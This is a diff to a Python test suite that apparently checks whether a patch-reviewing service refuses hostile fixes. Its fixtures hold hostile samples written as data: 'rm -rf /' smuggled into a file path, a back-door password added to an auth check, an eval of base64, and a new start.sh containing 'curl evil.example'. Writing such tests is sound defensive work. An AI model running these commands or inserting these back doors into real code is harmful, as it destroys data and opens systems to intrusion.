@@ -45,7 +45,8 @@ HOSTILE: dict[str, dict[str, Any]] = {
     "shell in a path": edit("a", "b", "handler.py; rm -rf /"),
     "shell action": {"kind": "shell", "command": "rm -rf /"},
     "deletion of a file": {"kind": "delete", "path": "handler.py"},
-    "file outside the globs": edit("a", "b", "server.sh"),
+    "file outside the globs": edit("once", "evil", "notes.txt"),
+    "new file outside the globs": edit("", "curl evil.example", "start.sh"),
     "deletion of a check": edit(CHECK, "    return True\n"),
     "back door in auth": edit(CHECK, CHECK.rstrip() + " or password == 'letmein-77'\n"),
     "eval of base64": insert("    import base64\n    eval(base64.b64decode('cHJpbnQoMSk='))\n"),
@@ -72,7 +73,7 @@ HOSTILE: dict[str, dict[str, Any]] = {
 def pack(incident: Incident) -> EvidencePack:
     """Return evidence of a service that has a test."""
     given = cases.pack()
-    tested = {"test_handler.py": b"from handler import price\n\n\ndef test_price():\n    assert price({'price_cents': 100}) == 1\n"}  # fmt: skip
+    tested = {"notes.txt": b"written once", "test_handler.py": b"from handler import price\n\n\ndef test_price():\n    assert price({'price_cents': 100}) == 1\n"}  # fmt: skip
     given = replace(
         given, current={**given.current, **tested}, last_good={**(given.last_good or {}), **tested}
     )
@@ -95,7 +96,7 @@ def test_a_hostile_fix_is_refused_or_does_not_pass_the_review(
 
 
 FORBIDDEN = ["path traversal", "absolute path", "symlink", "shell action", "shell in a path",
-             "file outside the globs", "NUL bytes", "control characters", "5 MB patch"]  # fmt: skip
+             "file outside the globs", "new file outside the globs", "NUL bytes", "control characters", "5 MB patch"]  # fmt: skip
 
 
 @pytest.mark.parametrize("name", FORBIDDEN)
